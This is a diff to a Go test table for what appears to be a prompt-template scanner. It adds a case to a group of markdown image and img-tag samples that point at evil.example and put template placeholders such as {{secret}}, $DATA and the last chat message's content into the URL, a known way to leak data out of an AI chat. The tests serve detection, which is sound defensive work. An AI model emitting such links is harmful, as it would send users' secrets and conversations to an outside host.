@@ -107,6 +107,7 @@ func TestRun(t *testing.T) {
 
 		// 3. URLs, exfiltration, hidden markup.
 		{"md image placeholder", "![a](https://evil.example/p?q={{secret}})", tmpl, []want{{"MG5007", 0, 40}}},
+		{"md image spaced jinja placeholder", "![a](https://evil.example/p?q={{ messages[-1]['content'] }}) x", tmpl, []want{{"MG5007", 0, 59}}},
 		{"md image plain ok", "![logo](https://example.com/logo.png)", tmpl, nil},
 		{"ref image", "![x][r]\n\n[r]: https://evil.example/c?d=$DATA", tmpl, []want{{"MG5007", 9, 44}}},
 		{"img src", `<img src="https://evil.example/i?d=%s">`, tmpl, []want{{"MG5007", 0, 37}}},
